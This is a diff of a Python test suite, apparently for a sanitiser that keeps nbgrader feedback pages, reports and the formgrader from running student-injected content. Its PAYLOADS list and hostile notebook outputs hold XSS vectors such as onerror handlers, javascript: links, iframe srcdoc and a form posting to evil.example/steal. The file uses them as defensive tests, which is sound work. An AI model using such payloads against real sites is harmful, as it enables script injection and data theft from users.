@@ -22,6 +22,7 @@ parts still render: math as MathML, the Markdown table, the ``data:`` PNG,
 bold text of an HTML output. The students' pages load nothing at all and show
 no raw TeX or Markdown table syntax.
 """
+
 from __future__ import annotations
 
 import base64
@@ -51,12 +52,17 @@ EXERCISE = "ex01_response_only_sft"
 
 def _png(red: int, green: int, blue: int) -> str:
     """A 1x1 PNG of one colour, base64: a student's honest image, which must still display."""
+
     def chunk(kind: bytes, data: bytes) -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
     pixels = zlib.compress(bytes([0, red, green, blue]))
-    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
-           + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))
+    png = (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
+        + chunk(b"IDAT", pixels)
+        + chunk(b"IEND", b"")
+    )
     return base64.b64encode(png).decode("ascii")
 
 
@@ -68,33 +74,35 @@ PAYLOADS = [
     "<img src=\"x\" onerror=\"window.pwned = 'onerror'; alert('onerror')\">",
     "[a markdown link](javascript:window.pwned='md-link')",
     "<a href=\"javascript:window.pwned='a-href'\">a raw link</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">a data link</a>",
+    '<a href="data:text/html,<script>alert(1)</script>">a data link</a>',
     "<iframe srcdoc=\"<script>parent.pwned='iframe'</script>\"></iframe>",
     "<object data=\"data:text/html,<script>alert('object')</script>\"></object>",
-    "<embed src=\"https://evil.example/embed.swf\">",
-    "<form action=\"https://evil.example/steal\"><input name=\"q\"><button>go</button></form>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">",
-    "<base href=\"https://evil.example/\">",
-    "<link rel=\"stylesheet\" href=\"https://evil.example/style.css\">",
+    '<embed src="https://evil.example/embed.swf">',
+    '<form action="https://evil.example/steal"><input name="q"><button>go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
+    '<base href="https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/style.css">',
     "<style>body { background: url(https://evil.example/style-tag.png) }</style>",
-    "<div style=\"background-image: url(https://evil.example/style-attr.png)\">styled</div>",
-    "<img src=\"https://evil.example/tracker.png\" alt=\"tracker\">",
-    "<svg onload=\"window.pwned='svg'\"><circle r=\"5\"></circle></svg>",
+    '<div style="background-image: url(https://evil.example/style-attr.png)">styled</div>',
+    '<img src="https://evil.example/tracker.png" alt="tracker">',
+    '<svg onload="window.pwned=\'svg\'"><circle r="5"></circle></svg>',
     "<math><mi xlink:href=\"javascript:alert('mathml')\">m</mi></math>",
     "<details open ontoggle=\"window.pwned='details'\"><summary>s</summary></details>",
 ]
-HOSTILE_EXPLANATION = "\n".join([
-    "My answer: the false win shows in $\\frac{\\text{wins}}{n}$, so I would watch",
-    "",
-    "| metric | why |",
-    "| --- | --- |",
-    "| win rate | <b>honest bold</b> |",
-    "",
-    f"![my plot](data:image/png;base64,{PNG})",
-    "",
-    *PAYLOADS,
-])
-HOSTILE_OUTPUTS = '''
+HOSTILE_EXPLANATION = "\n".join(
+    [
+        "My answer: the false win shows in $\\frac{\\text{wins}}{n}$, so I would watch",
+        "",
+        "| metric | why |",
+        "| --- | --- |",
+        "| win rate | <b>honest bold</b> |",
+        "",
+        f"![my plot](data:image/png;base64,{PNG})",
+        "",
+        *PAYLOADS,
+    ]
+)
+HOSTILE_OUTPUTS = """
 from IPython.display import HTML, Javascript, Markdown, display
 display(HTML("<b>student html</b><img src=x onerror=\\"window.pwned='html-output'\\">"
              "<script>window.pwned='html-script'</script>"))
@@ -106,7 +114,7 @@ print("<script>window.pwned='stdout'</script>")
 import sys
 print("<img src=x onerror=\\"window.pwned='stderr'\\">", file=sys.stderr)
 raise ValueError("<img src=x onerror=\\"window.pwned='traceback'\\">")
-'''
+"""
 HONEST_PARTS = ("honest bold", "student html", "markdown output")
 
 
@@ -116,8 +124,13 @@ def course(make_course):
     course = make_course([EXERCISE])
     release, solution = course.release(EXERCISE), solution_code(course.source(EXERCISE))
     course.submit("alice", EXERCISE, fill_answers(release, solution))
-    course.submit("mallory", EXERCISE, fill_answers(release, dict(
-        solution, explanation=HOSTILE_EXPLANATION, answer=solution["answer"] + HOSTILE_OUTPUTS)))
+    course.submit(
+        "mallory",
+        EXERCISE,
+        fill_answers(
+            release, dict(solution, explanation=HOSTILE_EXPLANATION, answer=solution["answer"] + HOSTILE_OUTPUTS)
+        ),
+    )
     nbgrader("db", "student", "add", "mallory", f"--last-name={HOSTILE_NAME}", cwd=course.root)
     course.autograde(EXERCISE)
     nbgrader("generate_feedback", EXERCISE, cwd=course.root)
@@ -151,9 +164,21 @@ def formgrader(course, tmp_path_factory):
     log_path = tmp_path_factory.mktemp("formgrader") / "jupyter_server.log"
     with open(log_path, "w") as log:
         server = subprocess.Popen(
-            [sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root", f"--port={port}",
-             "--ServerApp.ip=127.0.0.1", f"--IdentityProvider.token={token}", f"--ServerApp.root_dir={course.root}"],
-            cwd=course.root, stdout=log, stderr=subprocess.STDOUT)
+            [
+                sys.executable,
+                "-m",
+                "jupyter_server",
+                "--no-browser",
+                "--allow-root",
+                f"--port={port}",
+                "--ServerApp.ip=127.0.0.1",
+                f"--IdentityProvider.token={token}",
+                f"--ServerApp.root_dir={course.root}",
+            ],
+            cwd=course.root,
+            stdout=log,
+            stderr=subprocess.STDOUT,
+        )
     base = f"http://127.0.0.1:{port}"
     try:
         deadline = time.monotonic() + 60
@@ -266,10 +291,12 @@ def feedback_page(course, student: str) -> Path:
 def cell_panel(loaded: Loaded, grade_id: str):
     """The panel nbgrader's feedback template draws for a graded cell."""
     return loaded.page.locator(
-        f"xpath=//a[@name='{grade_id}']/following-sibling::div[contains(@class, 'panel-body')][1]")
+        f"xpath=//a[@name='{grade_id}']/following-sibling::div[contains(@class, 'panel-body')][1]"
+    )
 
 
 # ---------------------------------------------------------------- exercise feedback
+
 
 def test_hostile_feedback_page_runs_nothing_and_loads_nothing(course, load):
     url = feedback_page(course, "mallory").as_uri()
@@ -319,6 +346,7 @@ def test_undrawn_plots_are_said_where_the_figure_would_be(course, load):
 
 # ---------------------------------------------------------------- summary and report
 
+
 @pytest.mark.parametrize("student", ["alice", "mallory"])
 def test_summary_pages_run_nothing_and_load_nothing(course, load, student):
     url = (course.root / "feedback" / student / "index.html").as_uri()
@@ -338,6 +366,7 @@ def test_report_runs_nothing_and_loads_nothing(course, load):
 
 
 # ---------------------------------------------------------------- the formgrader
+
 
 def test_formgrader_submission_view_runs_nothing(course, formgrader, load):
     base, token = formgrader
